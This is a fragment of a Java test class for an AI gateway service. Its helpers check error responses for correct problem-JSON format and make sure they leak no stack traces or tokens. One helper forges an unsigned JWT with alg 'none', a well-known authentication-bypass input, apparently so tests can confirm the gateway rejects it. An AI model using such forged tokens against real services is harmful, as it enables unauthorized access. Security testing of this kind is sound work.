  private static String jwt(String subject, Consumer<JWTClaimsSet.Builder> customizer) {
    return TestCredentials.jwt(subject, customizer);
  }

  private static String unsigned(JWTClaimsSet claims) {
    java.util.Base64.Encoder b64 = java.util.Base64.getUrlEncoder().withoutPadding();
    return b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
        + b64.encodeToString(claims.toString().getBytes(StandardCharsets.UTF_8)) + ".";
  }

  private void assertNotPublished(String... requestIds) {
    await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(2))
        .until(() -> java.util.Arrays.stream(requestIds).noneMatch(worker()::sawRequest));
  }

  private void assertInvalid(WebTestClient.ResponseSpec response, String field) {
    JsonNode problem = problem(response, 400, "INVALID_REQUEST");
    assertThat(problem.get("errors").findValuesAsString("field")).contains(field);
  }

  private JsonNode problem(WebTestClient.ResponseSpec response, int status, String code) {
    EntityExchangeResult<byte[]> result = response.expectStatus().isEqualTo(status).expectBody().returnResult();
    if (status == 401) {
      assertThat(result.getResponseHeaders().getFirst(HttpHeaders.WWW_AUTHENTICATE)).startsWith("Bearer realm=\"ai-gateway\"");
    }
    return assertProblemBody(result, status, code);
  }

  private JsonNode assertProblemBody(EntityExchangeResult<byte[]> result, int status, String code) {
    assertThat(result.getResponseHeaders().getContentType()).isNotNull()
        .satisfies(type -> assertThat(type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)).isTrue());
    String text = new String(result.getResponseBodyContent(), StandardCharsets.UTF_8);
    assertThat(text).doesNotContain("Exception", "\tat ", "aig_", "eyJ", TestCredentials.ADMIN_TOKEN);
    JsonNode problem = json.readTree(text);
    assertThat(problem.get("status").asInt()).isEqualTo(status);
    assertThat(problem.get("code").asString()).isEqualTo(code);
    assertThat(problem.get("type").asString()).isEqualTo("urn:ai-gateway:error:" + code);
    assertThat(problem.get("requestId").asString()).isNotBlank();
    if (status == 429) {
      assertThat(result.getResponseHeaders().getFirst(HttpHeaders.RETRY_AFTER)).isNotBlank();
    }
    return problem;
  }

  private static TestWorker worker() {
    if (worker == null) {
      throw new IllegalStateException("worker not started");
    }
    return worker;
  }

}
